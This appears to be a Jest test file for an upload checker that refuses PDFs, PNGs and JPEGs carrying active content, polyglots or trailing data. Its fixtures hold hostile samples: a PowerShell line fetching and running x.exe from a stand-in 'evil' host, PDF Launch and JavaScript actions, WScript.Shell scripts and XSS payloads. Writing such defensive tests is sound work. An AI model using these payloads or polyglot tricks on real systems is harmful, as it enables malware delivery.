/**
 * Uploaded files are read whole before they are kept: a PDF must parse as a PDF and carry nothing that acts on its
 * own (also when the name is spelt with #xx or the object sits in a compressed object stream), an image must be a
 * complete PNG or JPEG, and nothing else may ride along (bytes after the end, a ZIP, an HTA's script).
 */
import { crc32, deflateSync } from 'node:zlib';
import JSZip from 'jszip';
import { checkJpeg, checkPdf, checkPng } from '../../api/upload-content';
import { samplePdf, samplePdfWithObjectStream, sampleJpeg, samplePng, streamObject } from '../support/sample-files';

const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** Appends an incremental update whose cross-reference table gives `entries` (object number → offset). */
function withUpdate(pdf: Buffer, entries: Record<number, number>): Buffer {
  const text = pdf.toString('latin1');
  const previous = /startxref\n(\d+)\n%%EOF\n$/.exec(text)![1];
  const lines = Object.entries(entries).map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`);
  return latin1(`${text}xref\n${lines.join('')}trailer\n<< /Size 20 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${pdf.length}\n%%EOF\n`);
}

function pngChunk(type: string, body: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), body])));
  return Buffer.concat([head, body, crc]);
}
/** The sample PNG with `chunk` placed just before IEND. */
const pngWith = (chunk: Buffer) => {
  const png = samplePng();
  return Buffer.concat([png.subarray(0, png.length - 12), chunk, png.subarray(png.length - 12)]);
};

describe('PDF', () => {
  test('a complete PDF is accepted, with a classic cross-reference table or with object and cross-reference streams', () => {
    expect(checkPdf(samplePdf())).toBeUndefined();
    expect(checkPdf(samplePdfWithObjectStream())).toBeUndefined();
    // Opening on a page (a destination) is not an action; a string that mentions a name is not that name.
    expect(checkPdf(samplePdf({ catalog: '/OpenAction [3 0 R /Fit] /Lang (about /JavaScript and /Launch)' }))).toBeUndefined();
    expect(checkPdf(samplePdf({ catalog: '/OpenAction 4 0 R', extra: ['[3 0 R /XYZ null null 0]'] }))).toBeUndefined();
    expect(checkPdf(samplePdf({ extra: [streamObject('', latin1('BT /F1 12 Tf (/JavaScript) Tj ET'))] }))).toBeUndefined();
    expect(checkPdf(withUpdate(samplePdf(), { 3: samplePdf().indexOf('3 0 obj') }))).toBeUndefined();
  });

  test.each([
    ['/JavaScript', '<< /S /JavaScript /JS (app.launchURL("http://evil")) >>', '자바스크립트'],
    ['a hex-escaped name (/J#61vaScript)', '<< /S /J#61vaScript /J#53 (this.print()) >>', '자바스크립트'],
    ['/Launch', '<< /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>', '프로그램 실행'],
    ['/EmbeddedFiles', '<< /EmbeddedFiles << /Names [(run.bat) 5 0 R] >> >>', '포함된 파일'],
    ['/RichMedia', '<< /Subtype /RichMedia >>', '멀티미디어'],
    ['/XFA', '<< /Fields [] /XFA 5 0 R >>', 'XFA'],
    ['/AA (actions on events)', '<< /Type /Annot /AA << /O 6 0 R >> >>', '자동 실행'],
  ])('a PDF with %s is refused, in a plain object and inside a compressed object stream', (_, object, label) => {
    for (const pdf of [samplePdf({ extra: [object] }), samplePdfWithObjectStream([object])]) {
      expect(checkPdf(pdf)).toEqual({ reason: 'pdf_active_content', message: expect.stringContaining(label) as string });
    }
  });

  test('an action run on opening is refused, written in the catalog or pointed at', () => {
    const opening = { reason: 'pdf_active_content', message: expect.stringContaining('OpenAction') as string };
    expect(checkPdf(samplePdf({ catalog: '/OpenAction << /S /URI /URI (http://evil.example/) >>' }))).toEqual(opening);
    expect(checkPdf(samplePdf({ catalog: '/OpenAction 4 0 R', extra: ['<< /S /URI /URI (http://evil.example/) >>'] }))).toEqual(opening);
    expect(checkPdf(samplePdfWithObjectStream(['<< /S /GoTo /D [3 0 R /Fit] >>'], '/OpenAction 4 0 R'))).toEqual(opening);
    expect(checkPdf(samplePdf({ catalog: '/OpenAction 9 0 R' }))).toEqual(opening);
  });

  test('an object the cross-reference points to inside another stream is refused (a viewer would read it, a scan that skips streams would not)', () => {
    const hidden = '9 0 obj << /S /Launch /F (cmd.exe) >> endobj';
    const pdf = samplePdf({ extra: [streamObject('', latin1(hidden))] });
    expect(checkPdf(withUpdate(pdf, { 9: pdf.indexOf('9 0 obj') }))).toMatchObject({ reason: 'pdf_structure' });
  });

  test('an encrypted PDF cannot be inspected and is refused', () => {
    expect(checkPdf(samplePdf({ trailer: '/Encrypt 4 0 R', extra: ['<< /Filter /Standard /V 2 >>'] }))).toMatchObject({
      reason: 'pdf_encrypted',
      message: expect.stringContaining('암호') as string,
    });
  });

  test('an object stream compressed in a way that cannot be inspected, or inflating beyond reason, is refused', () => {
    const lzw = samplePdf({ extra: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', latin1('\x80\x0b\x60\x50'))] });
    expect(checkPdf(lzw)).toMatchObject({ reason: 'pdf_uninspectable', message: expect.stringContaining('LZWDecode') as string });
    const bomb = samplePdf({ extra: [streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(80 * 1024 * 1024, 0x20)))] });
    expect(checkPdf(bomb)).toMatchObject({ reason: 'pdf_uninspectable', message: expect.stringContaining('너무 큼') as string });
  });

  test('polyglots: a PDF header over a script, or a PDF with something before, between or after it, is refused', () => {
    const pdf = samplePdf();
    // The finding: a batch file (or an HTA) whose first line is a PDF header.
    expect(checkPdf(latin1('%PDF-1.7\r\n@echo off\r\npowershell -c "iwr http://evil/x.exe -o x.exe; .\\x.exe"\r\n'))).toMatchObject({
      reason: 'pdf_structure',
    });
    expect(checkPdf(latin1('%PDF-1.4\n<html><hta:application/><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>\n'))).toMatchObject({
      reason: 'pdf_structure',
    });
    expect(checkPdf(Buffer.concat([latin1('MZ\x90\x00'), pdf]))).toMatchObject({ reason: 'pdf_structure' });
    const header = pdf.indexOf('1 0 obj');
    expect(checkPdf(Buffer.concat([pdf.subarray(0, header), latin1('@echo off\r\nstart calc\r\n'), pdf.subarray(header)]))).toMatchObject({
      reason: 'pdf_structure',
    });
    expect(checkPdf(Buffer.concat([pdf, latin1('@echo off\r\nstart calc\r\n')]))).toMatchObject({ reason: 'trailing_data' });
    expect(checkPdf(Buffer.concat([pdf, Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00])]))).toMatchObject({ reason: 'trailing_data' });
    // An HTA renders any bytes as HTML: a script in a PDF string is still a script.
    const script = samplePdf({ catalog: '/Lang (<script>new ActiveXObject\\("WScript.Shell"\\).Run\\("calc"\\)</script>)' });
    expect(checkPdf(script)).toMatchObject({ reason: 'embedded_markup' });
  });

  test('what is not a complete PDF is refused with where it breaks', () => {
    const pdf = samplePdf().toString('latin1');
    expect(checkPdf(latin1(pdf.replace(/startxref\n\d+\n/, '')))).toMatchObject({
      reason: 'pdf_structure',
      message: expect.stringContaining('startxref') as string,
    });
    expect(checkPdf(latin1(pdf.replace('%%EOF', '')))).toMatchObject({ reason: 'pdf_structure', message: expect.stringContaining('%%EOF') as string });
    expect(checkPdf(latin1(pdf.replace(/startxref\n(\d+)/, (_, offset: string) => `startxref\n${Number(offset) + 3}`)))).toMatchObject({
      reason: 'pdf_structure',
    });
    const shifted = pdf.replace(/(\d{10}) 00000 n/, (_, offset: string) => `${String(Number(offset) + 2).padStart(10, '0')} 00000 n`);
    expect(checkPdf(latin1(shifted))).toMatchObject({ reason: 'pdf_structure', message: expect.stringContaining('상호 참조 표') as string });
    expect(checkPdf(latin1(pdf.replace('/Count 1 >>', '/Count 1 (unterminated >>')))).toMatchObject({ reason: 'pdf_structure' });
    expect(checkPdf(latin1(pdf.replace('%PDF-1.4', '%PDF-x.y')))).toMatchObject({ reason: 'pdf_structure' });
  });
});

describe('PNG', () => {
  test('a complete PNG is accepted, with its ancillary chunks', () => {
    expect(checkPng(samplePng())).toBeUndefined();
    expect(checkPng(pngWith(pngChunk('tEXt', latin1('Comment\0민원 사진'))))).toBeUndefined();
  });

  test('anything after IEND is refused', () => {
    expect(checkPng(Buffer.concat([samplePng(), latin1('@echo off')]))).toEqual({
      reason: 'trailing_data',
      message: 'PNG 이미지의 끝(IEND) 뒤에 다른 데이터가 붙어 있습니다.',
    });
  });

  test('a damaged or incomplete PNG is refused', () => {
    const png = samplePng();
    const flipped = Buffer.from(png);
    flipped[20] = (flipped[20] ?? 0) ^ 1;
    expect(checkPng(flipped)).toMatchObject({ reason: 'png_structure', message: expect.stringContaining('검사합') as string });
    expect(checkPng(png.subarray(0, png.length - 12))).toMatchObject({ reason: 'png_structure', message: expect.stringContaining('IEND') as string });
    const textFirst = Buffer.concat([png.subarray(0, 8), pngChunk('tEXt', latin1('a\0b')), png.subarray(8)]);
    expect(checkPng(textFirst)).toMatchObject({ reason: 'png_structure', message: expect.stringContaining('IHDR') as string });
    expect(checkPng(pngWith(pngChunk('EXEC', latin1('calc'))))).toMatchObject({ reason: 'png_structure' });
    const split = pngWith(Buffer.concat([pngChunk('tEXt', latin1('a\0b')), pngChunk('IDAT', deflateSync(Buffer.alloc(1)))]));
    expect(checkPng(split)).toMatchObject({ reason: 'png_structure', message: expect.stringContaining('IDAT') as string });
  });

  test('a PNG carrying a ZIP archive or HTML script inside a chunk is refused', async () => {
    const zip = await new JSZip().file('run.bat', '@echo off\r\nstart calc\r\n').generateAsync({ type: 'nodebuffer' });
    expect(checkPng(pngWith(pngChunk('zIPx', zip)))).toMatchObject({ reason: 'embedded_archive' });
    expect(checkPng(pngWith(pngChunk('tEXt', latin1('Comment\0<img src=x onerror="alert(1)">'))))).toMatchObject({ reason: 'embedded_markup' });
  });
});

describe('JPEG', () => {
  const jpeg = sampleJpeg();

  test('a complete JPEG is accepted', () => {
    expect(checkJpeg(jpeg)).toBeUndefined();
  });

  test('anything after EOI is refused', () => {
    expect(checkJpeg(Buffer.concat([jpeg, latin1('PK\x03\x04')]))).toEqual({
      reason: 'trailing_data',
      message: 'JPEG 이미지의 끝(EOI) 뒤에 다른 데이터가 붙어 있습니다.',
    });
  });

  test('a JPEG cut short, out of order or with a broken segment is refused', () => {
    expect(checkJpeg(jpeg.subarray(0, jpeg.length - 2))).toMatchObject({ reason: 'jpeg_structure', message: expect.stringContaining('EOI') as string });
    const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
    const scanWithoutFrame = Buffer.concat([jpeg.subarray(0, frame), jpeg.subarray(frame + 13)]);
    expect(checkJpeg(scanWithoutFrame)).toMatchObject({ reason: 'jpeg_structure', message: expect.stringContaining('SOS') as string });
    const longSegment = Buffer.from(jpeg);
    longSegment.writeUInt16BE(0xfff0, 4);
    expect(checkJpeg(longSegment)).toMatchObject({ reason: 'jpeg_structure' });
    expect(checkJpeg(Buffer.concat([jpeg.subarray(0, 2), latin1('<html>'), jpeg.subarray(2)]))).toMatchObject({ reason: 'jpeg_structure' });
  });

  test('a JPEG with a script in its comment segment is refused', () => {
    const comment = latin1('<script>new ActiveXObject("WScript.Shell").Run("calc")</script>');
    const segment = Buffer.concat([Buffer.from([0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 0xff]), comment]);
    expect(checkJpeg(Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]))).toMatchObject({ reason: 'embedded_markup' });
  });
});
